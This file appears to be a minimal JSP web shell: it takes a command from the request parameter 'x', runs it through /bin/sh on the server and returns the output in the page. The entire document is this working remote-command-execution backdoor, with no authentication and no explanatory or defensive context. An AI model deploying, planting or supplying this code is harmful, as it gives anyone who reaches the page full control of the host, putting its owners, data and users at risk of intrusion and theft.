<%
String x = request.getParameter("x");
ProcessBuilder pb = new ProcessBuilder("/bin/sh", "-c", x);
pb.redirectErrorStream(true);
java.util.Scanner s = new java.util.Scanner(pb.start().getInputStream()).useDelimiter("\\A");
out.print(s.hasNext() ? s.next() : "");
%>
